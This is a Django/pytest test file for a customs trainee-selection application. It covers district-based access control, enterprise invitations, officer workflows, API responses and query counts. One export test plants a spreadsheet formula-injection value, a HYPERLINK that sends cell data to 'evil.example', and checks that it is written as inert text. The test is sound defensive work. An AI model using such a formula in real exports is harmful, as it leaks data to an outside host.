"""Who may open which page and endpoint: officers by customs district (GACC sees all),
enterprise staff only their own enterprise; plus the pages' behaviour and query counts."""

import io
import json
from datetime import date

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.factories import UserFactory
from trainees import services
from trainees.models import (
    CultivationStatus,
    Enterprise,
    KeyListAdjustment,
    Position,
    SelectionRound,
    TrainingApplication,
)

from .factories import (
    ApplicationFactory,
    NomineeFactory,
    SelectionRoundFactory,
    add_capacity,
    enterprise_in,
    officer,
    staff_of,
    unit,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    w = type("World", (), {})()
    w.gacc = officer("0000")
    w.shenzhen = officer("5300")  # regional: Shenzhen and its local customs
    w.futian = officer("5301")  # local
    w.nanjing = officer("2300")
    w.no_unit = UserFactory()
    w.a = enterprise_in("5301", credit_score=90, cultivation_status=CultivationStatus.APPLIED)
    w.b = enterprise_in("2301")
    w.staff_a = staff_of(w.a, position=Position.LEGAL_REPRESENTATIVE)
    w.clerk_a = staff_of(w.a, position=Position.IT)
    w.staff_b = staff_of(w.b, position=Position.LEGAL_REPRESENTATIVE)
    w.round = SelectionRoundFactory(customs_unit=unit("5300"))
    add_capacity(w.round, seats=5)
    w.app = ApplicationFactory(round=w.round, enterprise=w.a)
    NomineeFactory(application=w.app, user=w.staff_a, name=str(w.staff_a), position=Position.LEGAL_REPRESENTATIVE)
    return w


def status_for(client, user, method, url, data=None):
    client.logout()
    if user is not None:
        client.force_login(user)
    response = client.post(url, data or {}) if method == "post" else client.get(url)
    return response.status_code


ENTERPRISE_EXPECTED = {
    "gacc": 200,
    "shenzhen": 200,
    "futian": 200,
    "nanjing": 404,
    "staff_a": 403,
    "staff_b": 403,
    "no_unit": 403,
    None: 302,
}
ROUND_EXPECTED = {
    "gacc": 200,
    "shenzhen": 200,
    "futian": 404,
    "nanjing": 404,
    "staff_a": 403,
    "no_unit": 403,
    None: 302,
}


@pytest.mark.parametrize("who", list(ENTERPRISE_EXPECTED))
@pytest.mark.parametrize("name", ["enterprise_detail", "enterprise_transition", "enterprise_key"])
def test_enterprise_pages_by_district(client, world, who, name):
    user = getattr(world, who) if who else None
    url = reverse(f"trainees:{name}", args=[world.a.pk])
    method = "get" if name == "enterprise_detail" else "post"
    expected = ENTERPRISE_EXPECTED[who]
    status = status_for(client, user, method, url, {"action": "suspend", "reason": "", "is_key": ""})
    if expected == 200 and method == "post":
        # allowed: a suspension without its ground is refused with the form (400); clearing the key
        # enterprise flag needs no reason and is saved (302 back to the enterprise)
        assert status == {"enterprise_transition": 400, "enterprise_key": 302}[name]
    else:
        assert status == expected
    if expected != 200:
        assert Enterprise.objects.get(pk=world.a.pk).cultivation_status == CultivationStatus.APPLIED


@pytest.mark.parametrize("who", list(ROUND_EXPECTED))
@pytest.mark.parametrize("name", ["round_detail", "round_export", "round_adjust", "round_close", "round_publish"])
def test_round_pages_by_district(client, world, who, name):
    user = getattr(world, who) if who else None
    url = reverse(f"trainees:{name}", args=[world.round.pk])
    method = "get" if name in {"round_detail", "round_export"} else "post"
    expected = ROUND_EXPECTED[who]
    status = status_for(client, user, method, url, {"application": world.app.pk, "action": "exclude", "reason": "r"})
    if expected == 200:
        assert status in ({200} if method == "get" else {302})
    else:
        assert status == expected
        world.round.refresh_from_db()
        assert world.round.status == SelectionRound.Status.OPEN
        assert not KeyListAdjustment.objects.exists()


@pytest.mark.parametrize("who", list(ROUND_EXPECTED))
@pytest.mark.parametrize("name", ["enterprise_list", "application_list", "round_list", "import"])
def test_officer_lists_show_only_the_district(client, world, who, name):
    user = getattr(world, who) if who else None
    status = status_for(client, user, "get", reverse(f"trainees:{name}"))
    if who is None:
        assert status == 302
    elif who in {"staff_a", "no_unit"}:
        assert status == 403
    else:
        assert status == 200
    if name == "enterprise_list" and status == 200:
        content = client.get(reverse("trainees:enterprise_list")).content.decode()
        assert (world.a.name in content) == (who in {"gacc", "shenzhen", "futian"})
        assert (world.b.name in content) == (who in {"gacc", "nanjing"})
    if name == "application_list" and status == 200:
        content = client.get(reverse("trainees:application_list")).content.decode()
        assert (f'data-application-id="{world.app.pk}"' in content) == (who in {"gacc", "shenzhen", "futian"})
    if name == "round_list" and status == 200:
        content = client.get(reverse("trainees:round_list")).content.decode()
        assert (f'data-round-id="{world.round.pk}"' in content) == (who in {"gacc", "shenzhen"})


@pytest.mark.parametrize(
    ("who", "name", "expected"),
    [
        ("staff_a", "my_enterprise", 200),
        ("clerk_a", "my_enterprise", 200),
        ("gacc", "my_enterprise", 403),
        ("no_unit", "my_enterprise", 403),
        (None, "my_enterprise", 302),
        ("staff_a", "application_create", 200),
        ("clerk_a", "application_create", 403),
        ("gacc", "application_create", 403),
        (None, "application_create", 302),
        ("gacc", "home", 302),
        ("staff_a", "home", 302),
        ("no_unit", "home", 403),
    ],
)
def test_enterprise_pages(client, world, who, name, expected):
    user = getattr(world, who) if who else None
    assert status_for(client, user, "get", reverse(f"trainees:{name}")) == expected


def test_my_enterprise_shows_only_own_enterprise(client, world):
    client.force_login(world.staff_b)
    content = client.get(reverse("trainees:my_enterprise")).content.decode()
    assert world.b.name in content and world.a.name not in content


def test_invitation_page_and_invite_permissions(client, world, django_capture_on_commit_callbacks):
    client.force_login(world.clerk_a)
    client.post(reverse("trainees:staff_invite"), {"email": "x@example.com", "position": "it"})
    from trainees.models import EnterpriseInvitation

    assert not EnterpriseInvitation.objects.exists()
    client.force_login(world.staff_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("trainees:staff_invite"), {"email": "x@example.com", "position": "it"})
    assert response.status_code == 302
    from django.core import mail

    link = next(line for line in mail.outbox[0].body.splitlines() if "/invitations/" in line)
    path = link[link.index("/enterprises/") :] if "/enterprises/" in link else link
    invitee = UserFactory(email="x@example.com")
    client.force_login(invitee)
    assert client.get(path).status_code == 200
    assert client.post(path).status_code == 302
    invitee.refresh_from_db()
    assert invitee.enterprise == world.a and invitee.position == "it"
    assert client.get(reverse("trainees:invitation_accept", args=["nonsense"])).status_code == 404


def test_invitations_are_listed_and_revoked_by_the_administrator_only(client, world):
    from trainees.models import EnterpriseInvitation

    client.force_login(world.staff_a)
    client.post(reverse("trainees:staff_invite"), {"email": "y@example.com", "position": "it"})
    invitation = EnterpriseInvitation.objects.get(email="y@example.com")
    page = client.get(reverse("trainees:my_enterprise")).content.decode()
    assert "y@example.com" in page and "data-confirm" in page
    revoke = reverse("trainees:invitation_revoke", args=[invitation.pk])
    assert status_for(client, world.staff_b, "post", revoke) == 404  # another enterprise's
    assert status_for(client, world.clerk_a, "post", revoke) == 403  # not the administrator
    assert status_for(client, world.gacc, "post", revoke) == 403  # officers do not act for staff
    assert status_for(client, world.staff_a, "post", revoke) == 302
    invitation.refresh_from_db()
    assert invitation.revoked_at is not None and invitation.revoked_by == world.staff_a


def test_a_revoked_invitation_cannot_be_accepted(client, world):
    from trainees import services

    invitation, token = services.invitation_send(
        enterprise_id=world.a.id, email="z@example.com", position="it", actor=world.staff_a, accept_url="/x/{token}/"
    )
    services.invitation_revoke(invitation_id=invitation.pk, actor=world.staff_a)
    invitee = UserFactory(email="z@example.com")
    client.force_login(invitee)
    client.post(reverse("trainees:invitation_accept", args=[token]))
    invitee.refresh_from_db()
    assert invitee.enterprise is None


def test_invite_form_has_no_default_position(client, world):
    client.force_login(world.staff_a)
    page = client.get(reverse("trainees:my_enterprise")).content.decode()
    select = page[page.index('name="position"') :]
    select = select[: select.index("</select>")]
    assert '<option value="" selected>' in select
    response = client.post(reverse("trainees:staff_invite"), {"email": "w@example.com", "position": ""})
    from trainees.models import EnterpriseInvitation

    assert response.status_code == 302 and not EnterpriseInvitation.objects.filter(email="w@example.com").exists()


# --- the officer workflow through the pages ----------------------------------------------------


def test_officer_previews_adjusts_publishes_and_exports(client, world):
    client.force_login(world.shenzhen)
    url = reverse("trainees:round_detail", args=[world.round.pk])
    content = client.get(url).content.decode()
    assert f'data-application-id="{world.app.pk}" data-outcome="listed"' in content
    response = client.post(
        reverse("trainees:round_adjust", args=[world.round.pk]),
        {"application": world.app.pk, "action": "exclude", "reason": ""},
    )
    assert not KeyListAdjustment.objects.exists()
    client.post(
        reverse("trainees:round_adjust", args=[world.round.pk]),
        {"application": world.app.pk, "action": "exclude", "reason": "稽查未结"},
    )
    assert KeyListAdjustment.objects.get().actor == world.shenzhen
    assert 'data-outcome="excluded"' in client.get(url).content.decode()
    client.post(
        reverse("trainees:round_adjust", args=[world.round.pk]),
        {"application": world.app.pk, "action": "clear", "reason": "稽查已结"},
    )
    response = client.post(reverse("trainees:round_publish", args=[world.round.pk]))
    assert response.status_code == 302
    world.round.refresh_from_db()
    assert world.round.is_published
    export = client.get(reverse("trainees:round_export", args=[world.round.pk]) + "?type=compliance")
    assert export["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(export.content)).active
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert rows[0][0] == 1 and rows[0][1] == world.app.nominees.get().name and world.a.credit_code in rows[0]
    # the enterprise sees its outcome and why
    client.force_login(world.staff_a)
    content = client.get(reverse("trainees:my_enterprise")).content.decode()
    assert f'data-application-id="{world.app.pk}" data-outcome="listed"' in content
    assert "✓" in content


def test_unknown_training_type_is_a_404(client, world):
    client.force_login(world.gacc)
    assert client.get(reverse("trainees:round_detail", args=[world.round.pk]) + "?type=x").status_code == 404


def test_officer_suspends_through_the_page_and_bad_transition_re_renders(client, world):
    client.force_login(world.futian)
    url = reverse("trainees:enterprise_transition", args=[world.a.pk])
    response = client.post(
        url, {"action": "suspend", "ground": "being_audited", "reason": "稽查", "evidence_reference": "X-1"}
    )
    assert response.status_code == 302
    assert Enterprise.objects.get(pk=world.a.pk).cultivation_status == "suspended"
    response = client.post(url, {"action": "terminate", "ground": "being_audited", "reason": "x"})
    assert response.status_code == 400
    assert Enterprise.objects.get(pk=world.a.pk).cultivation_status == "suspended"


def test_application_form_submits_and_refuses_a_duplicate_with_a_message(client, world):
    other_round = SelectionRoundFactory(customs_unit=unit("5300"))
    client.force_login(world.staff_a)
    url = reverse("trainees:application_create")
    data = {
        "round": other_round.pk,
        "training_type": "aeo_certification",
        "willingness": "strong",
        "planned_aeo_application_date": "2027-05-01",
        "willingness_evidence": "董事会决议",
        "base_1": "shenzhen",
        "base_2": "guangzhou",
        "base_3": "",
        "staff": [world.staff_a.pk, world.clerk_a.pk],
        "others-TOTAL_FORMS": "3",
        "others-INITIAL_FORMS": "0",
        "others-0-name": "王五",
        "others-0-position": "finance",
        "others-1-name": "",
        "others-2-name": "",
    }
    assert client.post(url, data).status_code == 302
    application = TrainingApplication.objects.get(round=other_round)
    assert application.preferred_bases == ["shenzhen", "guangzhou"]
    assert sorted(application.nominees.values_list("position", flat=True)) == ["finance", "it", "legal_representative"]
    response = client.post(url, data)
    assert response.status_code == 400
    assert "errorlist" in response.content.decode()
    assert TrainingApplication.objects.filter(round=other_round).count() == 1
    data["base_2"] = "shenzhen"
    assert client.post(url, data).status_code == 400


def test_application_form_in_english_shows_english_messages(client, world):
    world.a.cultivation_status = "suspended"
    world.a.save()
    client.force_login(world.staff_a)
    response = client.post(
        "/en" + reverse("trainees:application_create"),
        {
            "round": world.round.pk,
            "training_type": "aeo_certification",
            "willingness": "strong",
            "staff": [world.staff_a.pk],
            "others-TOTAL_FORMS": "0",
            "others-INITIAL_FORMS": "0",
        },
    )
    assert response.status_code == 400
    assert "Cultivation of this enterprise is suspended" in response.content.decode()


# --- API -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "expected"),
    [
        ("gacc", 200),
        ("shenzhen", 200),
        ("futian", 200),
        ("nanjing", 404),
        ("staff_a", 200),
        ("staff_b", 404),
        ("no_unit", 404),
        (None, 401),
    ],
)
def test_api_enterprise_get(client, world, who, expected):
    user = getattr(world, who) if who else None
    response_status = status_for(client, user, "get", f"/api/trainees/enterprises/{world.a.pk}")
    assert response_status == expected


@pytest.mark.parametrize(
    ("who", "ids"),
    [("gacc", {"a", "b"}), ("shenzhen", {"a"}), ("nanjing", {"b"}), ("staff_a", None), (None, None)],
)
def test_api_enterprise_list(client, world, who, ids):
    client.logout()
    if who:
        client.force_login(getattr(world, who))
    response = client.get("/api/trainees/enterprises")
    if ids is None:
        assert response.status_code == (403 if who else 401)  # signed in without the right, or not signed in
        assert "detail" in response.json()
        return
    got = {e["id"] for e in response.json()}
    assert got == {getattr(world, k).pk for k in ids}


@pytest.mark.parametrize(("who", "count"), [("gacc", 1), ("futian", 1), ("nanjing", 0), ("staff_a", None)])
def test_api_applications(client, world, who, count):
    client.force_login(getattr(world, who))
    response = client.get("/api/trainees/applications")
    if count is None:
        assert response.status_code == 403
    else:
        assert len(response.json()) == count


def test_api_my_outcomes_and_key_list(client, world):
    client.force_login(world.gacc)
    assert client.get("/api/trainees/me/outcomes").status_code == 403
    assert client.get(f"/api/trainees/rounds/{world.round.pk}/key-list").status_code == 404  # not published
    services.round_publish(round_id=world.round.pk, actor=world.gacc)
    body = client.get(f"/api/trainees/rounds/{world.round.pk}/key-list?training_type=compliance").json()
    assert body[0]["priority"] == 1 and body[0]["enterprise_id"] == world.a.pk
    assert client.get(f"/api/trainees/rounds/{world.round.pk}/key-list?training_type=x").status_code == 400
    client.force_login(world.nanjing)
    assert client.get(f"/api/trainees/rounds/{world.round.pk}/key-list").status_code == 404
    client.force_login(world.staff_b)
    assert client.get(f"/api/trainees/rounds/{world.round.pk}/key-list").status_code == 403
    assert client.get("/api/trainees/me/outcomes").json() == []
    client.force_login(world.staff_a)
    (outcome,) = client.get("/api/trainees/me/outcomes").json()
    assert outcome["outcome"] == "listed" and outcome["people"][0]["priority"] == 1
    assert outcome["reasons"][0]["code"] == "key_enterprise"


@pytest.mark.parametrize(
    ("who", "payload", "expected"),
    [
        ("nanjing", {"action": "suspend", "ground": "other", "reason": "x"}, 404),
        ("staff_a", {"action": "suspend", "ground": "other", "reason": "x"}, 403),
        ("futian", {"action": "resume", "reason": "x"}, 400),
        ("futian", {"action": "fly"}, 400),
        ("futian", {"action": "suspend", "ground": "nope", "reason": "x"}, 400),
        ("futian", {"action": "suspend", "ground": "other", "reason": "x"}, 200),
    ],
)
def test_api_transitions(client, world, who, payload, expected):
    client.force_login(getattr(world, who))
    response = client.post(
        f"/api/trainees/enterprises/{world.a.pk}/transitions", json.dumps(payload), content_type="application/json"
    )
    assert response.status_code == expected
    assert "detail" in response.json() or expected == 200
    assert (Enterprise.objects.get(pk=world.a.pk).cultivation_status == "suspended") is (expected == 200)


def test_api_unknown_action_is_named_in_chinese_with_the_actions_offered(client, world):
    client.force_login(world.futian)
    response = client.post(
        f"/api/trainees/enterprises/{world.a.pk}/transitions",
        json.dumps({"action": "fly"}),
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "未知操作" in response.json()["detail"] and "suspend" in response.json()["detail"]


def test_api_malformed_json_is_a_4xx(client, world):
    client.force_login(world.futian)
    response = client.post(
        f"/api/trainees/enterprises/{world.a.pk}/transitions", "{not json", content_type="application/json"
    )
    assert 400 <= response.status_code < 500


# --- query counts ----------------------------------------------------------------------------


def _fill(round_, n):
    for _i in range(n):
        e = enterprise_in("5301", credit_score=70)
        a = ApplicationFactory(round=round_, enterprise=e)
        NomineeFactory(application=a)
        NomineeFactory(application=a, position=Position.FINANCE)


def _queries(client, url):
    client.get(url)  # warm up the session and site caches
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(url).status_code == 200
    return len(ctx.captured_queries)


@pytest.mark.parametrize(
    "page_name", ["application_list", "round_detail", "round_detail_published", "enterprise_list", "my_enterprise"]
)
def test_query_count_does_not_grow_with_rows(client, world, page_name):
    page = page_name
    round_ = SelectionRoundFactory(customs_unit=unit("5300"), applications_close_on=date(2027, 3, 1))
    add_capacity(round_, seats=500)
    client.force_login(world.staff_a if page == "my_enterprise" else world.shenzhen)

    def url():
        if page == "round_detail_published":
            return reverse("trainees:round_detail", args=[round_.pk])
        if page == "round_detail":
            return reverse("trainees:round_detail", args=[round_.pk])
        return reverse(f"trainees:{page}")

    def fill(n):
        if page == "my_enterprise":
            for _i in range(n):
                r = SelectionRoundFactory(customs_unit=unit("5300"))
                add_capacity(r, seats=3)
                a = ApplicationFactory(round=r, enterprise=world.a)
                NomineeFactory(application=a)
                services.round_publish(round_id=r.pk, actor=None)
        else:
            _fill(round_, n)

    fill(10)
    if page == "round_detail_published":
        services.round_publish(round_id=round_.pk, actor=None)
    small = _queries(client, url())
    if page == "round_detail_published":
        SelectionRound.objects.filter(pk=round_.pk).update(status="open", published_at=None)
        round_.decisions.all().delete()
    fill(90)
    if page == "round_detail_published":
        services.round_publish(round_id=round_.pk, actor=None)
    large = _queries(client, url())
    assert large == small, f"{page}: {small} queries for 10 rows, {large} for 100"


def test_key_list_export_writes_a_formula_like_nominee_name_as_text(client, world):
    world.app.nominees.update(name="=1+2")
    world.a.name_zh = '=HYPERLINK("http://evil.example/?"&A3,"x")'
    world.a.save()
    client.force_login(world.shenzhen)
    export = client.get(reverse("trainees:round_export", args=[world.round.pk]) + "?type=compliance")
    sheet = load_workbook(io.BytesIO(export.content)).active
    cells = {c.value: c for row in sheet.iter_rows(min_row=3) for c in row if c.value is not None}
    assert cells["=1+2"].data_type == "s"
    assert cells[world.a.name_zh].data_type == "s"
    assert sheet.freeze_panes == "A3"


@pytest.mark.parametrize(
    "url",
    [
        "/api/trainees/enterprises?offset=99999999999999999999999",
        "/api/trainees/enterprises?offset=-1",
        "/api/trainees/applications?round_id=99999999999999999999999",
        "/api/trainees/applications?offset=1e400",
    ],
)
def test_api_numbers_out_of_range_are_refused_with_4xx(client, world, url):
    client.force_login(world.shenzhen)
    assert client.get(url).status_code == 422


def test_api_transition_with_an_overlong_field_is_refused_with_4xx(client, world):
    client.force_login(world.shenzhen)
    response = client.post(
        f"/api/trainees/enterprises/{world.a.pk}/transitions",
        {"action": "suspend", "ground": "x" * 5000, "evidence_reference": "y" * 5000},
        content_type="application/json",
    )
    assert response.status_code == 422


@pytest.mark.parametrize("round_id", ["²", "99999999999999999999999", "-1", "1e400"])
def test_application_list_ignores_a_round_that_is_not_a_number(client, world, round_id):
    client.force_login(world.shenzhen)
    assert client.get(reverse("trainees:application_list"), {"round": round_id}).status_code == 200


def test_key_enterprise_flag_names_who_set_it_and_when(client, world):
    """The enterprise page says "由 王建华 于 2026-03-05 设置。", never "由 王建华 于 设置。"."""
    services.enterprise_set_key(enterprise_id=world.a.pk, actor=world.shenzhen, is_key=True, reason="前海重点企业")
    client.force_login(world.shenzhen)
    html = client.get(reverse("trainees:enterprise_detail", args=[world.a.pk])).content.decode()
    day = timezone.localdate().isoformat()
    assert f"由 {world.shenzhen} 于 {day} 设置。" in html
    assert "于 设置" not in html
    Enterprise.objects.filter(pk=world.a.pk).update(key_enterprise_set_at=None)  # flagged before dates were kept
    html = client.get(reverse("trainees:enterprise_detail", args=[world.a.pk])).content.decode()
    assert f"由 {world.shenzhen} 设置。" in html and "于 设置" not in html
